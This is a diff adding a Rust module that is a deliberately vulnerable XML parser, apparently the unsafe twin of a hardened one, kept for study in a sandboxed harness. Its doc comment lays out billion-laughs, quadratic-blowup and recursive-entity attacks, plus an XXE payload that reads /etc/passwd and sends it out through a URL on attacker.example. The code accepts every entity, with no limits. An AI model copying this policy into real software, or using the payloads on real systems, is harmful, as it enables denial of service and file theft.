@@ -1,0 +1,117 @@
+//! An XML parser that does everything a document's DTD asks.
+//!
+//! # Vulnerability
+//!
+//! **The mistake:** entity references are expanded recursively, each one
+//! parsed in full wherever it stands, with nothing counting how much output
+//! the expansion makes, how deep it goes or whether an entity refers to
+//! itself; and external entities and DTDs are fetched through the resolver
+//! the application supplied (libxml2 with `XML_PARSE_NOENT |
+//! XML_PARSE_DTDLOAD`, Java's default `DocumentBuilderFactory`, PHP before 8
+//! with `LIBXML_NOENT`).
+//!
+//! **CWE-776** (improper restriction of recursive entity references),
+//! **CWE-611** (improper restriction of XML external entity reference) and
+//! **CWE-674** (uncontrolled recursion).
+//!
+//! **Smallest attacks:**
+//! - *Billion laughs:* ten entities, each referring ten times to the one
+//!   before, `lol` at the bottom. Under a kilobyte of input expands to about
+//!   3×10⁹ bytes (libexpat 2.5 in CPython 3.11 needs about 100 ms just to
+//!   refuse a 773-byte one; this twin never refuses).
+//! - *Quadratic blowup:* one entity of 10,000 bytes referred to 10,000
+//!   times: 40 KB of input, 100 MB of output, and only one level of nesting,
+//!   so a depth limit alone does not stop it.
+//! - *XXE:* `<!ENTITY x SYSTEM "file:///etc/passwd">` then `&x;` puts the
+//!   file in the output. Through a parameter entity and an attacker's DTD the
+//!   file can leave inside a URL the parser is made to fetch
+//!   (`http://attacker.example/collect?root:x:0:0...`), even when the output
+//!   is never shown.
+//! - `<!ENTITY a "&a;">` then `&a;`: recursion until the stack runs out;
+//!   and 100,000 nested `<a>` tags, one depth level each.
+//!
+//! **Defender cost:** output exponential in the input (10ⁿ bytes for n
+//! levels), any file the resolver can reach, and recursion as deep as the
+//! document asks. Here the meter's fuses stop the run: output and steps at
+//! the fuse, depth at the depth fuse, and the resolver is the
+//! [`super::vfs::VirtualFs`] sandbox.
+//!
+//! **The fix:** [`super::hardened`] charges every expansion against an
+//! amplification budget, refuses cycles, limits entity and element depth and
+//! refuses external entities and DTDs outright.
+//!
+//! # Time complexity
+//!
+//! Unbounded: exponential in the number of entity declarations.
+//!
+//! # Panics
+//!
+//! Never; the meter's fuses stop runaway expansion and recursion. Each level
+//! of entity recursion takes a few call frames, so run deep inputs on a
+//! large stack (the harness uses a 64 MiB one) with a depth fuse.
+
+use super::parser::{self, Open, Policy};
+use super::{Document, Error, ErrorKind, Resolver};
+use crate::meter::Meter;
+
+/// Parses `input`, expanding every entity and fetching every external
+/// resource through `resolver`.
+///
+/// Counts one meter step per token, produces every output byte before
+/// appending it, and enters one depth level per element and per entity
+/// being expanded; returns [`ErrorKind::Fuse`] when the meter trips.
+pub fn parse(
+    input: &[u8],
+    resolver: &mut dyn Resolver,
+    meter: &mut Meter,
+) -> Result<Document, Error> {
+    parser::parse(input, &mut Trusting { resolver }, meter)
+}
+
+/// The policy that says yes to everything.
+struct Trusting<'r> {
+    resolver: &'r mut dyn Resolver,
+}
+
+impl Trusting<'_> {
+    fn fetch(&mut self, uri: &str) -> Result<Vec<u8>, ErrorKind> {
+        self.resolver
+            .resolve(uri)
+            .map_err(|e| ErrorKind::ResolveFailed { uri: e.uri, reason: e.reason.to_owned() })
+    }
+}
+
+impl Policy for Trusting<'_> {
+    fn external_subset(&mut self, uri: &str) -> Result<Vec<u8>, ErrorKind> {
+        self.fetch(uri)
+    }
+
+    fn declare_external(&mut self, _: &str, _: bool, _: &str) -> Result<(), ErrorKind> {
+        Ok(())
+    }
+
+    fn external_entity(&mut self, _: &str, _: bool, uri: &str) -> Result<Vec<u8>, ErrorKind> {
+        self.fetch(uri)
+    }
+
+    /// The mistake is what is missing: no budget, no depth limit, and no
+    /// look at `open` to see that the entity is already being expanded.
+    fn expand(
+        &mut self,
+        _: &str,
+        _: bool,
+        _: usize,
+        _: &[Open],
+        _: usize,
+    ) -> Result<(), ErrorKind> {
+        Ok(())
+    }
+
+    fn element(&mut self, _: usize) -> Result<(), ErrorKind> {
+        Ok(())
+    }
+
+    fn attribute(&mut self, _: usize) -> Result<(), ErrorKind> {
+        Ok(())
+    }
+}
